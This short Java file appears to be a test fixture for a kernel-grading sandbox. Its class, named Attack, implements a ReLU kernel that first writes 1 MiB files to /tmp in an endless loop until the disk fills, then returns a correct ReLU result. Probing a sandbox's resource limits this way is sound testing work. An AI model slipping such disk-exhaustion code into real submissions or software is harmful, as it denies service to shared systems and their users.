import assay.kernels.Relu;
import assay.kernels.Tensor;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;

public class Attack implements Relu {
    @Override
    public Tensor relu(Tensor input) {
        try {
            for (int f = 0; ; f++) Files.write(Path.of("/tmp/full" + f), new byte[1 << 20]);
        } catch (IOException e) {
            System.out.println(e.getMessage());
        }
        Tensor output = input.copy();
        for (int i = 0; i < output.size(); i++) output.data()[i] = Math.max(0, output.data()[i]);
        return output;
    }
}
